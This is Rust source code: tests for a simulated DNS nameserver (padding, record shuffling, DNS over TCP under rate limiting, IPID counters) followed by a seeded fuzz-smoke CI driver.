    fn padding_inflates_responses() {
        let mut cfg = NameserverConfig::new(NS_ADDR);
        cfg.pad_responses_to = Some(1400);
        let srv = server(cfg);
        let mut rng = ChaCha20Rng::seed_from_u64(5);
        let r = srv.answer_query(&Message::query(7, n("vict.im"), RecordType::A), &mut rng);
        assert!(r.wire_size() >= 1300, "padded response is large: {}", r.wire_size());
    }

    #[test]
    fn record_order_randomisation_changes_wire_bytes() {
        let mut cfg = NameserverConfig::new(NS_ADDR);
        cfg.randomize_record_order = true;
        let mut zone = victim_zone();
        for i in 0..8 {
            zone.add_a("many.vict.im", format!("30.0.1.{i}").parse().unwrap());
        }
        let srv = Nameserver::new(cfg, vec![zone]);
        let q = Message::query(7, n("many.vict.im"), RecordType::A);
        let mut seen = std::collections::HashSet::new();
        for seed in 0..6 {
            let mut rng = ChaCha20Rng::seed_from_u64(seed);
            seen.insert(srv.answer_query(&q, &mut rng).encode());
        }
        assert!(seen.len() > 1, "different shuffles produce different responses");
    }

    /// A minimal TCP querier node used by the DNS-over-TCP tests.
    struct TcpQuerier {
        stack: HostStack,
        sock: Box<dyn Socket>,
        rx: TcpFrameBuffer,
        answers: Vec<Message>,
    }

    impl TcpQuerier {
        fn new(addr: Ipv4Addr) -> Self {
            let mut stack = HostStack::with_defaults(vec![addr]);
            let sock = TcpTransport::client().bind(&mut stack, 45000);
            TcpQuerier { stack, sock, rx: TcpFrameBuffer::new(), answers: Vec::new() }
        }
    }

    impl Node for TcpQuerier {
        fn on_start(&mut self, ctx: &mut Ctx<'_>) {
            let q = Message::query(7, "vict.im".parse().unwrap(), RecordType::ANY).with_edns(512);
            let sock = &mut self.sock;
            with_io(&mut self.stack, ctx, |io| sock.send_to(io, Endpoint::new(NS_ADDR, 53), &frame_tcp(&q.encode())));
        }

        fn on_packet(&mut self, ctx: &mut Ctx<'_>, pkt: Ipv4Packet) {
            let now = ctx.now();
            let events = {
                let rng = ctx.rng();
                self.stack.handle_packet(&pkt, now, rng).events
            };
            for event in events {
                let sock = &mut self.sock;
                let sock_events = with_io(&mut self.stack, ctx, |io| sock.handle(io, &event));
                for se in sock_events {
                    if let SocketEvent::Data { payload, .. } = se {
                        self.rx.push(&payload);
                        while let Some(frame) = self.rx.pop() {
                            self.answers.push(Message::decode(&frame).unwrap());
                        }
                    }
                }
            }
        }
    }

    #[test]
    fn serves_queries_over_tcp_without_truncation_or_rrl() {
        // A padded zone whose answers exceed a 512-byte EDNS buffer, behind
        // strict RRL: over UDP the server truncates (or mutes); over TCP the
        // full answer always comes through — the RFC 7766 contract that
        // makes the resolver's TCP fallback a real defence.
        let mut cfg = NameserverConfig::new(NS_ADDR).with_rrl(1);
        cfg.pad_responses_to = Some(1400);
        let srv = server(cfg);
        let mut sim = Simulator::new(9);
        let ns = sim.add_node("ns", vec![NS_ADDR], srv);
        let querier = sim.add_node("querier", vec![RESOLVER], TcpQuerier::new(RESOLVER));
        sim.connect(ns, querier, Link::with_latency(Duration::from_millis(5)));
        sim.run();
        let srv = sim.node_ref::<Nameserver>(ns).unwrap();
        assert_eq!(srv.stats.tcp_queries, 1);
        assert_eq!(srv.stats.responses_truncated, 0, "no EDNS limit over TCP");
        assert_eq!(srv.stats.responses_suppressed, 0, "RRL does not apply to TCP");
        let q = sim.node_ref::<TcpQuerier>(querier).unwrap();
        assert_eq!(q.answers.len(), 1);
        assert!(!q.answers[0].header.truncated);
        assert!(q.answers[0].wire_size() > 1300, "the full padded answer arrived over the stream");
        assert!(sim.stats(querier).tcp_received >= 3, "handshake + multi-segment answer");
    }

    #[test]
    fn ipid_policy_observable_from_responses() {
        // Global counter: consecutive responses carry consecutive IPIDs.
        let (sim, _ns, res) = ask(
            server(NameserverConfig::new(NS_ADDR).with_ipid(IpIdPolicy::GlobalCounter)),
            (0..3).map(|i| query_packet("vict.im", RecordType::A, i, 4096)).collect(),
        );
        let ids: Vec<u16> = sim
            .trace()
            .entries()
            .iter()
            .filter(|e| {
                e.verdict == netsim::trace::TraceVerdict::Delivered && e.to == "resolver" && e.summary.contains("UDP")
            })
            .filter_map(|e| {
                // We cannot recover the IPID from the summary; instead assert
                // via the server's counter.
                let _ = e;
                None
            })
            .collect();
        let _ = ids;
        let srv = sim.node_ref::<Nameserver>(_ns).unwrap();
        assert_eq!(srv.peek_ipid(), 4, "global counter advanced once per response (starting at 1)");
        let _ = res;
    }
}
