//! CI fuzz-smoke driver: replays the committed corpus and runs every target
//! for a fixed, seeded iteration budget. Any panic or invariant divergence
//! aborts the process with a replayable `--seed`/`--iters` pair in hand.
//!
//! ```text
//! fuzz_smoke [--seed N] [--iters N] [--target NAME] [--bless]
//! ```

use std::process::ExitCode;

fn main() -> ExitCode {
    let mut seed: u64 = 0x1035;
    let mut iters: usize = 500;
    let mut only: Option<String> = None;
    let mut bless = false;

    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--seed" => seed = parse_or_die(args.next(), "--seed"),
            "--iters" => iters = parse_or_die(args.next(), "--iters"),
            "--target" => only = Some(args.next().unwrap_or_else(|| die("--target needs a name"))),
            "--bless" => bless = true,
            other => die(&format!("unknown argument {other}")),
        }
    }

    if bless {
        let written = fuzz::bless_corpus().unwrap_or_else(|e| die(&format!("bless failed: {e}")));
        println!("blessed {written} canonical corpus entries under {}", fuzz::corpus_dir().display());
        return ExitCode::SUCCESS;
    }

    let targets = fuzz::targets();
    if let Some(name) = &only {
        if !targets.iter().any(|t| t.name == *name) {
            die(&format!("no target named {name}"));
        }
    }
    for target in &targets {
        if only.as_deref().is_some_and(|n| n != target.name) {
            continue;
        }
        let replayed = fuzz::replay_corpus(target);
        let executed = fuzz::run_target(target, seed, iters);
        println!("{:14} corpus={replayed:3} fuzzed={executed} seed={seed:#x} ok", target.name);
    }
    ExitCode::SUCCESS
}

fn parse_or_die<T: std::str::FromStr>(value: Option<String>, flag: &str) -> T {
    value.and_then(|v| v.parse().ok()).unwrap_or_else(|| die(&format!("{flag} needs a number")))
}

fn die(msg: &str) -> ! {
    eprintln!("fuzz_smoke: {msg}");
    std::process::exit(2);
}
